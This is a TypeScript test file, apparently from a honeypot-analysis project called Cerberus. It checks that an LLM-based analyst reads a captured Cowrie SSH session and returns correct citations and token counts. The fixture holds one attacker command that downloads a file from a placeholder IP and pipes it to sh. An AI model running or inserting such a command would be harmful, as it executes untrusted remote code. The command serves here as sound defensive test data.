import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createAnalyst } from '../src/assess/analyst/analyst.ts';
import { createLanguageModel, type ModelChoice, outputTokensMax } from '../src/assess/analyst/language-model.ts';
import { systemClock } from '../src/kit/clock.ts';
import { Secret } from '../src/kit/secret.ts';
import { createTrialBreaker } from '../src/kit/trial-breaker.ts';
import { type LlmServer, startLlmServer } from './support/llm-server.ts';

const eventId = '0196a000-0000-7000-8000-000000000001';
// biome-ignore lint/style/noProcessEnv: names the provider to try, as CERBERUS_TEST_COWRIE names the Cowrie.
const env = process.env;
const { CERBERUS_TEST_LLM_PROVIDER, CERBERUS_TEST_LLM_MODEL, CERBERUS_TEST_LLM_KEY, CERBERUS_TEST_LLM_URL } = env;

const providers = ['openai', 'anthropic', 'openai-compatible'] as const;
const asked = CERBERUS_TEST_LLM_PROVIDER === undefined ? providers : [readProvider(CERBERUS_TEST_LLM_PROVIDER)];

/**
 * What we rely on at a provider, whatever its protocol: by default our local server, which speaks all; a real one with
 * CERBERUS_TEST_LLM_PROVIDER=openai|anthropic|openai-compatible, _MODEL, _KEY and, where needed, _URL (one paid request).
 */
describe.each(asked)('the contract with %s', (provider) => {
  let server: LlmServer;
  beforeAll(async () => {
    server = await startLlmServer();
  });
  afterAll(() => server.close());

  it('a session is read: the asked form, true citations, tokens counted', async () => {
    const clock = systemClock;
    const budget = { takeBudget: async () => true, settleBudget: async () => undefined };
    const analyst = createAnalyst({
      ask: createLanguageModel(choose(provider, server.url)),
      store: { findReading: async () => undefined, ...budget },
      breaker: createTrialBreaker({ clock }),
      clock,
      model: 'contract',
      outputTokensMax,
    });
    const outcome = await analyst.read(session, new AbortController().signal);
    expect(outcome).toMatchObject({ kind: 'read', citations: [eventId] });
    expect(outcome.kind === 'read' && outcome.usage.inputTokens).toBeGreaterThan(0);
  }, 120_000);
});

function readProvider(name: string): ModelChoice['provider'] {
  const provider = providers.find((one) => one === name);
  if (provider) return provider;
  throw new Error(`CERBERUS_TEST_LLM_PROVIDER: expected ${providers.join(', ')}, came ${name}`);
}

function choose(provider: ModelChoice['provider'], localUrl: string): ModelChoice {
  const common = { provider, temperature: 0.2, timeoutSeconds: 45 };
  if (CERBERUS_TEST_LLM_PROVIDER === undefined) {
    const apiKey = provider === 'openai-compatible' ? null : new Secret('local');
    return { model: 'local', apiKey, baseUrl: localUrl, ...common };
  }
  const apiKey = CERBERUS_TEST_LLM_KEY === undefined ? null : new Secret(CERBERUS_TEST_LLM_KEY);
  return {
    model: CERBERUS_TEST_LLM_MODEL ?? 'gpt-4',
    apiKey,
    baseUrl: CERBERUS_TEST_LLM_URL ?? null,
    ...common,
  };
}

const session = {
  sensor: 'sensor-a',
  sessionId: 's1',
  sourceIp: '198.51.100.7',
  protocol: 'ssh',
  severity: 'HIGH' as const,
  threatScore: 0.8,
  durationSeconds: 3,
  eventCount: 1,
  commandCount: 1,
  events: [
    {
      id: eventId,
      type: 'cowrie.command.input',
      second: 1,
      severity: 'HIGH',
      techniques: ['T1105'],
      texts: [['command', 'wget http://192.0.2.9/x -O- | sh'] as const],
    },
  ],
};
